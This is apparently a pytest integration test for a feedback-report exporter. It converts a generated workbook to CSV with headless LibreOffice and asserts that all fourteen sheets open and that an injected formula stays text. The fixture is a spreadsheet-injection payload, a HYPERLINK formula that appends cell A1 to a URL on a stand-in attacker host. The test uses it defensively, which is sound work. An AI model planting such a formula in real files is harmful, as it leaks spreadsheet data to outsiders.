"""The workbook, read by LibreOffice as people without Excel read it: every sheet opens, formulas stay text."""

from __future__ import annotations

import csv
import shutil
import subprocess
from datetime import UTC, datetime
from pathlib import Path

import pytest
from support.reports import make_report

from voc.report.render import ReportFormat, render
from voc.store.report_comments import Behind

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(
        shutil.which("soffice") is None, reason="LibreOffice is not installed (Debian: libreoffice-calc, 500 MB)"
    ),
]
# All sheets, separated by commas, in UTF-8, values as they are shown.
_EVERY_SHEET = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"


def test_libreoffice_opens_every_sheet_and_formulas_stay_text(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"押す")'
    labels = ("negative", "requested", "critical")
    moment = datetime(2026, 11, 18, 3, 0, tzinfo=UTC)
    behind = [Behind("c0", moment, "survey", "K0", formula, "t1", ("support",), *labels)]
    (tmp_path / "week.xlsx").write_bytes(render(make_report(formula), ReportFormat.XLSX, behind=behind))
    command = [
        "soffice",
        f"-env:UserInstallation=file://{tmp_path}/profile",
        "--headless",
        "--convert-to",
        _EVERY_SHEET,
    ]
    subprocess.run(
        [*command, "--outdir", tmp_path, tmp_path / "week.xlsx"], check=True, capture_output=True, timeout=120
    )
    sheets = {
        path.stem.removeprefix("week-"): list(csv.reader(path.read_text(encoding="utf-8").splitlines()))
        for path in tmp_path.glob("*.csv")
    }
    assert len(sheets) == 14
    assert sheets["コメント"][1][0] == formula
    assert formula in {row[1] for row in sheets["お客様の声"]}
    assert sheets["テーマ"][1][:3] == ["電話", "25", "25"]
